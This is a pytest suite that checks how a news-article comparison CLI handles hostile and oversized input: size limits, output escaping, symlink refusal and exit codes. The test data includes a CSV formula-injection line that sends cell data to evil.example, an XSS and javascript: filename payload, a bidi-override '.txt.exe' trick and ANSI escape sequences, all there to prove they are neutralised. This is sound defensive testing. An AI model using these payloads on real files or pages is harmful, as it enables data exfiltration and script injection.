"""Hostile and oversized input, as a CI gate meets it in a pull request (issue 17): bounded
work, inert output, exit 2 with one line on every failure. Each test fails without the
handling it names."""
import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from typer.testing import CliRunner

import compare.atomic
import compare.embed
from compare.cli import app, main
from compare.claims import extract_claims
from compare.facts import extract_all
from compare.gate import load_accepted
from compare.ingest import read_source

from conftest import SEEDS

runner = CliRunner()
SEED0 = next(SEEDS.glob("000_*.txt"))
SEED2 = next(SEEDS.glob("002_*.txt"))
SENTENCE = "De wethouder van de gemeente kreeg op maandag {n} formele klachten van medewerkers.\n"


def _folder(path: Path, files: dict[str, str | bytes]) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        p = path / name
        p.write_bytes(content) if isinstance(content, bytes) else p.write_text(content, encoding="utf-8")
    return path


def _report(folder, out_dir: Path, *extra):
    out = out_dir / "r.md"
    return runner.invoke(app, ["report", str(folder), "--output", str(out), "--quiet", *extra]), out


def _one_error_line(output: str) -> str:
    """The run's error: exactly one line starting 'compare: error:' and no traceback."""
    errors = [ln for ln in output.splitlines() if ln.startswith("compare: error:")]
    assert len(errors) == 1, output
    assert "Traceback" not in output
    return errors[0]


def _facts(tmp_path, text: str, published: str | None = None):
    p = tmp_path / "x.txt"
    p.write_text(text, encoding="utf-8")
    s = read_source(p, published)
    claims = extract_claims(s)
    extract_all([s], {s.id: claims})
    return [f for c in claims for f in c.facts]


# -- 1. bounded work ---------------------------------------------------------------------

def test_two_hundred_tiny_articles_are_refused_by_the_sources_limit(tmp_path):
    folder = _folder(tmp_path / "many", {f"a{n:03d}.txt": SENTENCE.format(n=n) for n in range(200)})
    r, out = _report(folder, tmp_path / "out")
    assert r.exit_code == 2
    line = _one_error_line(r.output)
    assert "200 sources" in line and "limits.max_sources" in line and "--max-sources" in line
    assert not out.exists()


def _worst_judge(groups, claims, is_confident=None, settings=None):
    """The worst case the limits admit: every claim in one group, every pair a conflict."""
    from compare.model import Finding

    ids = sorted(claims, key=lambda c: (claims[c].source, claims[c].start))
    for g in groups:
        g.status, g.findings = "unique", []
    groups[0].claims, groups[0].status = ids, "conflict"
    groups[0].findings = [Finding("conflict", "count", [a, b], {claims[a].source: "x", claims[b].source: "y"},
                                  {a: claims[a].text[:10], b: claims[b].text[:10]}, f"Count differs: {a} / {b}",
                                  f"sha1-{k:016x}")
                          for k, (a, b) in enumerate((a, b) for i, a in enumerate(ids) for b in ids[i + 1 :])]
    del groups[1:]
    return groups


def test_a_hundred_disagreeing_articles_give_a_bounded_report(tmp_path, monkeypatch):
    # 100 sources (the limit), one group of 100 claims, 4,950 pairwise conflicts: before, every
    # conflict quoted its whole group (hundreds of MB); the judge is replaced to make it so
    monkeypatch.setattr("compare.pipeline.judge", _worst_judge)
    monkeypatch.setattr(compare.embed, "_LOADED", {"e5": _Fake()})
    words = "politie gemeente raad burgemeester wethouder rechter officier advocaat minister directeur".split()
    folder = _folder(tmp_path / "many", {f"a{n:03d}.txt": f"De {words[n % 10]} noemde {n + 2} klachten over het "
                                         f"bestuur op dag {n} van het onderzoek.\n" for n in range(100)})
    r, out = _report(folder, tmp_path / "out", "--no-cache")
    assert r.exit_code == 0, r.output
    report = json.loads(out.with_suffix(".json").read_text(encoding="utf-8"))
    assert sum(f["severity"] == "conflict" for g in report["groups"] for f in g["findings"]) == 4950
    md = out.read_text(encoding="utf-8")
    assert len(md.encode("utf-8")) < 2_000_000
    assert len(re.findall(r"^### \d+\. ", md, re.M)) == 200 and "4750 more conflicts are not shown here" in md
    # a conflict lists the claims that disagree (two rows), not its group of a hundred
    first = md.split("### 1. ", 1)[1].split("### 2. ", 1)[0]
    assert len([ln for ln in first.splitlines() if ln.startswith("| [")]) == 2
    also = [ln for ln in first.splitlines() if ln.startswith("Also in group")]
    assert also and len(re.findall(r"\]\(", also[0])) == 5 and also[0].endswith("and 93 more.")
    assert "… and 4750 more conflicts (all in" in r.output  # stdout is bounded too
    assert len(r.output.splitlines()) < 210


def test_an_article_of_1_9_mb_is_refused_in_seconds_by_the_claims_limit(tmp_path):
    lines = [f"De raad vergaderde op dag {n} over de {n % 50 + 2} klachten van het personeel.\n" for n in range(27_500)]
    big = "".join(lines)
    assert 1.8e6 < len(big.encode()) < 2 * 1024 * 1024  # under the size limit
    folder = _folder(tmp_path / "ev", {"a.txt": SEED0.read_text(encoding="utf-8"), "big.txt": big})
    r, out = _report(folder, tmp_path / "out")
    assert r.exit_code == 2
    line = _one_error_line(r.output)
    assert "limits.max_claims" in line and "--max-claims" in line and "big.txt" in line
    assert not out.exists()


def test_an_article_on_one_line_is_refused_by_the_line_limit(tmp_path):
    one_line = "de wethouder en 40 klachten en Jan Smit (41) op 5 juli " * 5_000 + "\n"  # 285 kB, no sentence end
    folder = _folder(tmp_path / "ev", {"a.txt": SEED0.read_text(encoding="utf-8"), "long.txt": one_line})
    r, out = _report(folder, tmp_path / "out")
    assert r.exit_code == 2
    line = _one_error_line(r.output)
    assert "long.txt: line 1" in line and "limits.max_line_chars" in line and "--max-line-chars" in line


def test_limits_are_raised_on_the_command_line_and_shown(tmp_path):
    r = runner.invoke(app, ["report", str(SEEDS), "--max-claims", "9000", "--max-article-bytes", "3000000", "--show-settings"])
    assert r.exit_code == 0, r.output
    assert re.search(r"limits\.max_claims\s+9000\s+\(--max-claims\)", r.output)
    assert re.search(r"limits\.max_article_bytes\s+3000000", r.output)
    assert re.search(r"limits\.max_sources\s+100\s+\(default\)", r.output)


# -- 2. inert output ---------------------------------------------------------------------

HOSTILE_LINES = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik") De wethouder trad maandag af na vier klachten.\n\n'
    "+31 mensen klaagden volgens de gemeente over de wethouder en zijn gedrag.\n\n"
    "-2 is wat de raad telde bij de stemming over het ontslag van de wethouder.\n\n"
    "@SUM(1+1) De burgemeester zei dinsdag dat zij niets wist van de klachten.\n"
)


def test_csv_and_parquet_cells_cannot_start_a_formula(tmp_path, cache_dir):
    folder = _folder(tmp_path / "ev", {"a.txt": SEED0.read_text(encoding="utf-8"), "b.txt": HOSTILE_LINES})
    r, out = _report(folder, tmp_path / "out", "--csv", str(tmp_path / "csv"), "--parquet", str(tmp_path / "pq"))
    assert r.exit_code == 0, r.output
    raw = (tmp_path / "csv" / "claims.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # kept, as text
    for name in ("claims", "facts", "groups", "findings"):
        for row in csv.reader(io.StringIO((tmp_path / "csv" / f"{name}.csv").read_text(encoding="utf-8"))):
            # a number such as -0.0008 is a number to a spreadsheet, not a formula
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
                           for cell in row), (name, row)
    import pandas as pd

    claims = pd.read_parquet(tmp_path / "pq" / "claims.parquet")
    texts = [t for t in claims["text"] if isinstance(t, str)]
    assert any(t.startswith("'@SUM") for t in texts)
    assert not any(t[:1] in ("=", "+", "-", "@") for t in texts)


NAME = '<img src=x onerror=alert(1)>|x [a](javascript:b)'


def test_file_and_folder_names_are_escaped_in_markdown_links_and_tables(tmp_path, cache_dir):
    folder = _folder(tmp_path / NAME, {"a.txt": SEED0.read_text(encoding="utf-8"), f"{NAME}.txt": SEED2.read_text(encoding="utf-8")})
    r, out = _report(folder, tmp_path / "out")
    assert r.exit_code == 0, r.output
    md = out.read_text(encoding="utf-8")
    assert "<img" not in md and not re.search(r"(?<!\\)\]\(javascript", md)
    assert "%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E%7Cx" in md  # the link target, percent-encoded
    # every row of the sources table has its five cells: no name splits it
    table = ("| source | title |" + md.split("| source | title |", 1)[1].split("\n\n", 1)[0]).splitlines()
    cells = len(re.findall(r"(?<!\\)\|", table[0]))
    assert len(table[2:]) == 2 and all(len(re.findall(r"(?<!\\)\|", row)) == cells for row in table[2:])


def test_batch_index_escapes_event_names(tmp_path, cache_dir):
    root = tmp_path / "events"
    _folder(root / NAME, {"a.txt": SEED0.read_text(encoding="utf-8"), "b.txt": SEED2.read_text(encoding="utf-8")})
    out = tmp_path / "out"
    r = runner.invoke(app, ["batch", str(root), "--output", str(out), "--quiet"])
    assert r.exit_code == 0, r.output
    index = (out / "index.md").read_text(encoding="utf-8")
    assert "<img" not in index and not re.search(r"(?<!\\)\]\(javascript", index)
    row = index.splitlines()[-1]
    assert len(re.findall(r"(?<!\\)\|", row)) == 7, row
    target = re.findall(r"\]\(([^)]*)\)", row)[-1]
    assert (out / __import__("urllib.parse").parse.unquote(target)).exists()  # the link still leads to the report


def test_control_and_bidirectional_characters_are_shown_not_obeyed(tmp_path, cache_dir):
    tricky = ("De wethouder trad af na vier klachten\u202e.txt.exe\u202c en zei \x1b[2Jniets\x07 meer.\n\n"
              "De burgemeester wist naar eigen zeggen van niets en reageerde niet op vragen.\n")
    folder = _folder(tmp_path / "ev", {"a.txt": SEED0.read_text(encoding="utf-8"), "b.txt": tricky})
    r, out = _report(folder, tmp_path / "out", "--html", str(tmp_path / "r.html"))
    assert r.exit_code == 0, r.output
    for written in (out, tmp_path / "r.html"):
        page = written.read_text(encoding="utf-8")
        assert "\u202e" not in page and "\x1b" not in page and "\x07" not in page
    assert "\u241b[2J" in (tmp_path / "r.html").read_text(encoding="utf-8")  # ESC shown as ␛, one for one
    # the JSON keeps the text exactly: offsets into the source stay true
    report = json.loads(out.with_suffix(".json").read_text(encoding="utf-8"))
    text = (folder / "b.txt").read_text(encoding="utf-8")
    b_claims = [c for c in report["claims"] if c["source"] == "b"]
    assert b_claims and all(text[c["start"] : c["end"]] == c["text"] for c in b_claims)
    assert any("\u202e" in c["text"] for c in b_claims)


# -- 3. symlinks ---------------------------------------------------------------------------

def _secret(tmp_path) -> Path:
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("Het wachtwoord van de redactie is hunter2 en de sleutel ligt onder de mat.\n", encoding="utf-8")
    return secret


def test_a_symlink_out_of_the_input_folder_is_refused(tmp_path, cache_dir):
    secret = _secret(tmp_path)
    folder = _folder(tmp_path / "ev", {"a.txt": SEED0.read_text(encoding="utf-8")})
    (folder / "b.txt").symlink_to(secret)
    r, out = _report(folder, tmp_path / "out")
    assert r.exit_code == 2
    line = _one_error_line(r.output)
    assert "b.txt is a symbolic link" in line and "--follow-symlinks" in line and "hunter2" not in r.output
    assert not out.exists()
    r, out = _report(folder, tmp_path / "out", "--follow-symlinks")
    assert r.exit_code == 0, r.output
    assert "hunter2" in out.with_suffix(".json").read_text(encoding="utf-8")


def test_a_symlink_inside_the_folder_is_read(tmp_path, cache_dir):
    folder = _folder(tmp_path / "ev", {"a.txt": SEED0.read_text(encoding="utf-8"), "real.md": SEED2.read_text(encoding="utf-8")})
    (folder / "sub").mkdir()
    (folder / "sub" / "x.txt").write_text("stays inside\n", encoding="utf-8")
    (folder / "b.txt").symlink_to(folder / "real.md")
    r, _ = _report(folder, tmp_path / "out")
    assert r.exit_code == 0, r.output


def test_check_refuses_a_symlinked_draft_and_a_symlinked_source_folder(tmp_path, cache_dir):
    secret = _secret(tmp_path)
    (tmp_path / "pr").mkdir()
    (tmp_path / "pr" / "draft.txt").symlink_to(secret)
    r = runner.invoke(app, ["check", str(tmp_path / "pr" / "draft.txt"), "--against", str(SEEDS)])
    assert r.exit_code == 2 and "symbolic link" in _one_error_line(r.output)
    draft = _folder(tmp_path / "drafts", {"d.txt": SEED2.read_text(encoding="utf-8")}) / "d.txt"
    (tmp_path / "pr" / "sources").symlink_to(secret.parent)
    r = runner.invoke(app, ["check", str(draft), "--against", str(tmp_path / "pr" / "sources")])
    assert r.exit_code == 2 and "sources is a symbolic link" in _one_error_line(r.output)


def test_batch_refuses_a_symlink_out_of_an_event(tmp_path):
    secret = _secret(tmp_path)
    event = _folder(tmp_path / "events" / "e1", {"a.txt": SEED0.read_text(encoding="utf-8")})
    (event / "b.txt").symlink_to(secret)
    r = runner.invoke(app, ["batch", str(tmp_path / "events"), "--output", str(tmp_path / "out"), "--quiet"])
    assert r.exit_code == 2 and "b.txt is a symbolic link" in _one_error_line(r.output)
    assert not (tmp_path / "out" / "e1.md").exists()


# -- 4. every failure is exit 2 with one line; nothing overwritten before all can be written

def _previous(tmp_path) -> Path:
    out = tmp_path / "out"
    out.mkdir()
    for name in ("r.md", "r.json"):
        (out / name).write_text("previous\n", encoding="utf-8")
    return out


def test_output_whose_folder_is_a_file_is_exit_2(tmp_path, cache_dir):
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    r, _ = _report(SEEDS, tmp_path / "afile" / "sub")
    assert r.exit_code == 2
    assert "afile is a file, not a folder" in _one_error_line(r.output)


def test_output_that_is_a_folder_is_exit_2_and_nothing_is_written(tmp_path, cache_dir):
    out = _previous(tmp_path)
    (tmp_path / "page.html").mkdir()
    r, _ = _report(SEEDS, out, "--html", str(tmp_path / "page.html"))
    assert r.exit_code == 2
    assert "page.html: it is a folder" in _one_error_line(r.output)
    assert (out / "r.md").read_text(encoding="utf-8") == "previous\n"
    assert (out / "r.json").read_text(encoding="utf-8") == "previous\n"
    assert sorted(p.name for p in out.iterdir()) == ["r.json", "r.md"]  # no temporary file left


@pytest.mark.parametrize("errno_, words", [(28, "No space left on device"), (13, "Permission denied"), (30, "Read-only file system")])
def test_disk_full_and_unwritable_output_are_exit_2_and_overwrite_nothing(tmp_path, cache_dir, monkeypatch, errno_, words):
    out = _previous(tmp_path)
    real = compare.atomic.text_writer

    def failing(content):
        write = real(content)

        def second_fails(tmp):
            if tmp.startswith(str(out / ".r.md.")):  # the JSON is written first, then this
                raise OSError(errno_, os.strerror(errno_))
            write(tmp)
        return second_fails

    monkeypatch.setattr("compare.cli.text_writer", failing)
    r, _ = _report(SEEDS, out)
    assert r.exit_code == 2
    assert words in _one_error_line(r.output)
    assert (out / "r.json").read_text(encoding="utf-8") == "previous\n"  # written to a temporary file only
    assert sorted(p.name for p in out.iterdir()) == ["r.json", "r.md"]


def test_parquet_without_pyarrow_overwrites_no_csv(tmp_path, cache_dir, monkeypatch):
    out = _previous(tmp_path)
    tables = _folder(tmp_path / "csv", {"claims.csv": "previous\n"})
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import pyarrow raises ImportError
    r, _ = _report(SEEDS, out, "--csv", str(tables), "--parquet", str(tmp_path / "pq"))
    assert r.exit_code == 2
    assert "--parquet needs pyarrow" in _one_error_line(r.output)
    assert (tables / "claims.csv").read_text(encoding="utf-8") == "previous\n"
    assert (out / "r.md").read_text(encoding="utf-8") == "previous\n"


def test_an_unexpected_error_is_one_line_and_exit_2_not_1(tmp_path, monkeypatch, capsys):
    def broken(*args, **kwargs):
        raise RuntimeError("something\nwent wrong")

    monkeypatch.setattr("compare.pipeline.run", broken)
    monkeypatch.setattr(sys, "argv", ["compare", "report", str(SEEDS), "--output", str(tmp_path / "r.md"), "-q"])
    with pytest.raises(SystemExit) as stop:
        main()
    assert stop.value.code == 2  # 1 would tell CI "a contradiction was found"
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "internal error (RuntimeError: something␊went wrong)" in err


def test_an_error_naming_a_file_stays_on_one_line(tmp_path):
    r = runner.invoke(app, ["report", str(tmp_path / "no\nsuch\x1b[31m")])
    assert r.exit_code == 2
    line = _one_error_line(r.output)
    assert "\x1b" not in r.output and "no␊such␛[31m" in line


# -- 5. batch ------------------------------------------------------------------------------

def _events(root: Path, n: int) -> Path:
    seeds = sorted(SEEDS.glob("*.txt"))
    for k in range(n):
        _folder(root / f"e{k:02d}", {p.name: p.read_text(encoding="utf-8") for p in (seeds[k % 5], seeds[(k + 1) % 5])})
    return root


def test_batch_write_error_is_an_error_row_and_the_index_is_written(tmp_path, cache_dir):
    root = _events(tmp_path / "events", 3)
    out = tmp_path / "out"
    (out / "e01.md").mkdir(parents=True)  # this event's report cannot be written
    r = runner.invoke(app, ["batch", str(root), "--output", str(out), "--quiet"])
    assert r.exit_code == 0, r.output
    assert "2 compared, 0 unchanged, 1 failed" in r.output and "e01.md: it is a folder" in r.output
    index = json.loads((out / "index.json").read_text(encoding="utf-8"))["events"]
    assert {e["event"]: e["status"] for e in index} == {"e00": "done", "e01": "error", "e02": "done"}
    assert (out / "index.md").exists() and (out / "e02.md").exists() and not (out / "e01.json").exists()


def _batch_process(root: Path, out: Path, cache_dir: Path, jobs: int) -> subprocess.Popen:
    env = {**os.environ, "COMPARE_CACHE": str(cache_dir)}
    return subprocess.Popen([sys.executable, "-m", "compare", "batch", str(root), "--output", str(out),
                             "--jobs", str(jobs)], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _wait_for(condition, seconds: float) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if condition():
            return True
        time.sleep(0.1)
    return False


def test_batch_stops_on_ctrl_c_within_seconds_and_records_every_report(tmp_path, cache_dir):
    root = _events(tmp_path / "events", 24)
    out = tmp_path / "out"
    proc = _batch_process(root, out, cache_dir, jobs=2)
    try:
        assert _wait_for(lambda: len(list(out.glob("e*.md"))) >= 2, 120), "no report was written"
        proc.send_signal(signal.SIGINT)
        sent = time.monotonic()
        proc.wait(timeout=30)
        took = time.monotonic() - sent
    finally:
        proc.kill()
    assert proc.returncode == 130 and took < 10, (proc.returncode, took, proc.stderr.read())
    assert "interrupted" in proc.stderr.read()
    time.sleep(1)  # workers killed: nothing is written after the parent has gone
    written = sorted(p.stem for p in out.glob("e*.json"))
    manifest = json.loads((out / ".compare-batch.json").read_text(encoding="utf-8"))
    assert written and sorted(manifest) == written  # every report written is in the manifest
    assert len(written) < 24  # it stopped rather than finishing the queue


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads the process table from /proc (Linux)")
def test_batch_workers_die_with_their_parent(tmp_path, cache_dir):
    root = _events(tmp_path / "events", 24)
    out = tmp_path / "out"
    proc = _batch_process(root, out, cache_dir, jobs=2)

    def children() -> list[int]:
        kids = []
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == proc.pid:
                kids.append(int(stat.parent.name))
        return kids

    try:
        assert _wait_for(lambda: len(children()) >= 2 and list(out.glob("e*.md")), 120), "no workers started"
        workers = children()
        proc.kill()  # SIGKILL: the parent cannot clean up
        proc.wait(timeout=10)
        assert _wait_for(lambda: not any(Path(f"/proc/{pid}").exists() and
                                         "zombie" not in Path(f"/proc/{pid}/status").read_text(errors="replace").lower()
                                         for pid in workers), 10), "workers outlived their parent"
    finally:
        proc.kill()


# -- 6. the accept file --------------------------------------------------------------------

def test_a_reason_with_control_characters_keeps_the_accept_file_valid(tmp_path):
    accept = tmp_path / "accept.toml"
    reason = 'checked\r with "quotes", a \\ backslash,\x1b[31m ESC\nand a new line \u202e'
    for fp in ("sha1-0000000000000001", "sha1-0000000000000002"):
        r = runner.invoke(app, ["accept", fp, "--reason", reason, "--by", "desk", "--file", str(accept), "--force"])
        assert r.exit_code == 0, r.output
    data = tomllib.loads(accept.read_text(encoding="utf-8"))
    assert [e["reason"] for e in data["accepted"]] == [reason.strip()] * 2
    assert load_accepted(accept)["sha1-0000000000000002"].by == "desk"
    assert accept.read_text(encoding="utf-8").startswith("# Findings checked")


def _accept_in_child(barrier, accept: str, k: int) -> None:
    barrier.wait()  # all twenty read-modify-write at once
    sys.argv = ["compare", "accept", f"sha1-{k:016x}", "--reason", f"checked {k}", "--by", "desk",
                "--file", accept, "--force"]
    main()


@pytest.mark.skipif(sys.platform == "win32", reason="forks twenty processes")
def test_twenty_concurrent_accepts_keep_twenty_entries(tmp_path):
    import multiprocessing

    ctx = multiprocessing.get_context("fork")  # twenty `compare accept` processes, without twenty start-ups
    accept = tmp_path / "accept.toml"
    barrier = ctx.Barrier(20)
    procs = [ctx.Process(target=_accept_in_child, args=(barrier, str(accept), k)) for k in range(20)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=120)
        assert p.exitcode == 0
    assert sorted(load_accepted(accept)) == [f"sha1-{k:016x}" for k in range(20)]


# -- 7. text -------------------------------------------------------------------------------

def test_a_nul_byte_after_the_first_8_kb_is_refused(tmp_path):
    late_nul = (SEED0.read_text(encoding="utf-8") * 4).encode("utf-8") + b"\x00 verborgen\n"
    assert len(late_nul) > 8192 + 100
    folder = _folder(tmp_path / "ev", {"a.txt": SEED2.read_text(encoding="utf-8"), "b.txt": late_nul})
    r, out = _report(folder, tmp_path / "out")
    assert r.exit_code == 2 and "looks like a binary file" in _one_error_line(r.output) and not out.exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_pipe_named_as_an_article_is_refused_not_opened(tmp_path):
    os.mkfifo(tmp_path / "b.txt")  # opening it would wait for a writer for ever
    r = subprocess.run([sys.executable, "-m", "compare", "report", str(SEED0), str(tmp_path / "b.txt"), "-q",
                        "--output", str(tmp_path / "r.md")], capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "not a regular file" in _one_error_line(r.stderr)


def test_a_zero_width_space_inside_a_number_is_read_past(tmp_path):
    facts = _facts(tmp_path, "De gemeente betaalde 12\u200b000 euro aan de vertrokken wethouder.\n")
    money = [f for f in facts if f.kind == "money"]
    assert [(f.json_value(), f.unit, f.text) for f in money] == [(12000, "EUR", "12\u200b000 euro")]
    text = (tmp_path / "x.txt").read_text(encoding="utf-8")
    assert all(text[f.start : f.end] == f.text for f in facts)  # offsets true to the source


def test_an_impossible_date_is_neither_a_date_nor_a_count(tmp_path):
    facts = _facts(tmp_path, "De wethouder trad op 31 februari af na vier klachten.\n", "2021-07-05")
    assert not [f for f in facts if f.kind == "date"]
    assert [(f.kind, f.text) for f in facts if f.kind in ("count", "number")] == [("count", "vier klachten")]
    facts = _facts(tmp_path, "The mayor resigned on February 31, 2021 after four complaints.\n")
    assert not [f for f in facts if f.kind in ("date", "number", "count") and "31" in f.text]


def test_overflowing_numbers_are_no_facts(tmp_path):
    facts = _facts(tmp_path, "The city paid $1e309 to the officer and " + "9" * 400 + " dollars to the mayor.\n")
    assert not [f for f in facts if f.kind in ("money", "number", "count")]


# -- the property: any text, any file names -------------------------------------------------

class _Fake:
    id = "fake"

    def encode(self, texts):
        rows = [[float(len(t) % 7 + 1), float(sum(map(ord, t)) % 11 + 1), 1.0] for t in texts]
        v = np.array(rows, dtype=np.float32).reshape(len(texts), 3)
        return v / np.linalg.norm(v, axis=1, keepdims=True)


_name_chars = st.characters(blacklist_categories=("Cs",), blacklist_characters="/\x00")
names = st.text(_name_chars, min_size=1, max_size=40).filter(lambda s: s not in (".", "..") and len(s.encode()) < 200)
_WORDS = ["De", "wethouder", "trad", "maandag", "af", "na", "vier", "formele", "klachten", "4", "the", "mayor", "said",
          "<script>", "|", "=1+1", "\u202e", "\x1b[2J", "31 februari", "$1e309", "12\u200b000", "euro", "[x](y)",
          "@desk", "#12", "—", "„quote”", "(41)", "\r\n", "2021", "5 juli"]
# a sentence long enough to be article text (not a heading), with random Unicode inside it
_sentence = st.tuples(st.lists(st.sampled_from(_WORDS), min_size=10, max_size=24), st.text(max_size=40)).map(
    lambda t: " ".join(t[0][:5]) + " " + t[1] + " " + " ".join(t[0][5:]) + ".")
_article = st.lists(_sentence, min_size=1, max_size=4).map("\n\n".join)
bodies = st.one_of(_article, _article, st.text(max_size=400))  # two in three are articles


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name_a=names, name_b=names, text_a=bodies, text_b=bodies)
def test_any_text_and_file_names_give_exit_0_or_2_and_no_live_markup(tmp_path_factory, monkeypatch, name_a, name_b, text_a, text_b):
    monkeypatch.setattr(compare.embed, "_LOADED", {"e5": _Fake()})
    base = tmp_path_factory.mktemp("prop")
    folder = base / "in"
    folder.mkdir()
    files = {}
    for name, text in ((name_a, text_a), (name_b + "_b", text_b)):
        files[f"{name}.txt"] = text
    _folder(folder, files)
    out = base / "out" / "r.md"
    r = runner.invoke(app, ["report", str(folder), "--output", str(out), "--quiet", "--no-cache"])
    assert r.exit_code in (0, 2), (r.exit_code, r.output, r.exception)
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    if r.exit_code == 2:
        _one_error_line(r.output)
        assert not out.exists()
        return
    md = out.read_text(encoding="utf-8")
    assert "<" not in re.sub(r"</?(details|summary)>", "", md)  # only the report's own tags


def test_a_long_claim_is_quoted_elided_in_markdown():
    from compare.render.markdown import elide

    claim = "Begin " + "woord " * 1000 + "einde."
    quoted = elide(claim, 600)
    assert len(quoted) <= 603 and quoted.startswith("Begin woord") and quoted.endswith("woord einde.") and " … " in quoted
    assert elide("kort.", 600) == "kort."


def test_markdown_escaping_shows_controls_and_bidi_overrides():
    from compare.render.markdown import esc

    shown = esc("a\x1b[31mb\u202ec\x00d\x9b2Je")  # ESC, right-to-left override, NUL, C1's CSI
    assert shown == "a\u241b\\[31mb\ufffdc\u2400d\ufffd2Je"
